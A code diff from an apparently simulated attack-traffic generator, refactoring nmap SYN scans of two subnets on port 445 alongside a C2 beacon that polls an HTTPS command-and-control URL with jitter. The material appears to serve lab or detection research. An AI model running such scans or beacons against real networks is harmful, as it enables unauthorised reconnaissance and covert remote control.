@@ -121,9 +121,9 @@ def everyday(seed: str, certificate: str, folder: Path, *, with_ssh: bool) -> li
 
 def attacks(certificate: str, folder: Path, *, with_ssh: bool) -> list[Part]:
     """What the attack day adds."""
-    sweep = ("nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "1", "-p", "445")
-    sweep += ("10.20.1.0/24", "10.20.3.0/24")
-    one_by_one = ("nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "1", SERVER)
+    nmap = ("nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "1")
+    sweep = (*nmap, "-p", "445", "10.20.1.0/24", "10.20.3.0/24")
+    one_by_one = (*nmap, SERVER)
     beacon = _script(
         *("poll.py", "--every", "15", "--jitter", "0.1", "--agent", "sync/1.0"),
         *("--http", f"https://{C2}/text/180/v", "--certificate", certificate),
